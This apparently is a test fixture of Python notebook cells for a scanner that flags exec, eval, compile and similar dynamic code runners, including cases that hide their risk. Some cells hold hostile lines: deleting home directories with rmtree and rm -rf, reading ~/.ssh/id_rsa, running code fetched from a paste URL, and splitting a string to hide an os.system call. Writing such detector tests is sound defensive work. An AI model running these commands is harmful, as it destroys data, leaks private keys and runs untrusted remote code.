# exec/eval/compile of anything but a literal, other runners, and literals that hide risk.
#%%
exec(payload)
#%%
code = open("helper.txt").read()
exec(code)
#%%
eval(compile(src, "<string>", "exec"))
#%%
parts = ["imp", "ort os; os.sys", "tem('id')"]
exec("".join(parts))
#%%
exec("import shutil\nshutil.rmtree('/home')")
#%%
eval("__import__('os').system('rm -rf ~')")
#%%
src = "ZXhlYw=="
expr = f"{a}({b})"
eval(expr)
#%%
c = compile(user_code, "cell", "exec")
exec(c, {})
#%%
import runpy
runpy.run_path("/tmp/downloaded_script.py")
#%%
import runpy
runpy.run_module(mod_name, run_name="__main__")
#%%
import code
interp = code.InteractiveInterpreter()
interp.runsource(text)
#%%
import code
code.InteractiveConsole(locals()).push(line)
#%%
get_ipython().run_cell(cell_source)
#%%
ip = get_ipython()
ip.run_cell_magic("bash", "", script)
#%%
get_ipython().system(cmd)
#%%
get_ipython().run_line_magic("sx", "cat ~/.ssh/id_rsa")
#%%
from IPython import get_ipython
shell = get_ipython()
shell.ex(snippet)
#%%
f = exec
f(generated)
#%%
import builtins
builtins.eval(formula)
#%%
runner = {"go": eval}
runner["go"](expression)
#%%
exec(requests.get("https://paste.example.org/raw/abc").text)
#%%
import importlib.util
spec = importlib.util.spec_from_file_location("plugin", plugin_path)
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
#%%
import types
f = types.FunctionType(compile(body, "f", "exec").co_consts[0], globals())
f()
#%%
with open("task.py") as fh:
    exec(fh.read(), globals())
#%%
exec(template.format(cmd="rm -rf data"))
